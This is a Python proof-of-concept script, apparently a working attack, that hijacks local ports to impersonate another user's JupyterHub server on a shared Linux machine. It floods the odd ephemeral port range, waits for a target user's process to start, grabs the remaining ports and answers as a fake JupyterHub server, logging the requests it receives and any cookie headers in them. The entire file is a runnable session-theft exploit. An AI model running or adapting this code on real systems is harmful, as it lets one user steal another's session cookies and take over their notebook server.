"""A student's program that waits to answer in the place of another's server.

    python thief.py UID

Linux gives a program that asks for any port an odd one first, and connections leave from even ones.
This one holds all odd ports but for a few; once a process of the user UID runs, it takes these few,
too, and answers whatever comes there.
"""

import os
import resource
import socket
import sys
import time
from pathlib import Path

FEW = 6
PER_PROCESS = 3_000


def hold(ports):
    """Bind all of these ports that are free."""
    held = []
    for port in ports:
        trial = socket.socket()
        try:
            trial.bind(("127.0.0.1", port))
            held.append(trial)
        except OSError:
            trial.close()
    return held


def runs(user):
    """Tell whether a process of the user runs."""
    for process in Path("/proc").glob("[0-9]*"):
        try:
            if process.stat().st_uid == user:
                return True
        except OSError:
            pass
    return False


def answer(listener):
    """Answer all that comes, as a server of JupyterHub's users that is ready would."""
    while True:
        connection, _ = listener.accept()
        asked = connection.recv(65_536).decode(errors="replace")
        said = b"taken by the thief"
        connection.sendall(
            b"HTTP/1.1 200 OK\r\nX-JupyterHub-Version: 6.1.1\r\nConnection: close\r\n"
            b"Content-Length: %d\r\n\r\n" % len(said) + said
        )
        connection.close()
        print(
            "had:",
            *(line for line in asked.split("\r\n") if "ookie:" in line or "GET" in line),
            flush=True,
        )


def main(user):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    first, last = map(int, Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split())
    odd = range(first | 1, last + 1, 2)
    few = odd[-FEW:]
    for start in range(0, len(odd) - FEW, PER_PROCESS):
        if os.fork() == 0:
            held = hold(odd[start : start + PER_PROCESS][: len(odd) - FEW - start])
            time.sleep(600 if held else 0)
            os._exit(0)
    time.sleep(2)
    print("ready", flush=True)
    while not runs(user):
        time.sleep(0.01)
    while not (taken := hold(few)):
        time.sleep(0.01)
    for listener in taken[1:]:
        listener.listen()
        if os.fork() == 0:
            answer(listener)
    taken[0].listen()
    answer(taken[0])


if __name__ == "__main__":
    main(int(sys.argv[1]))
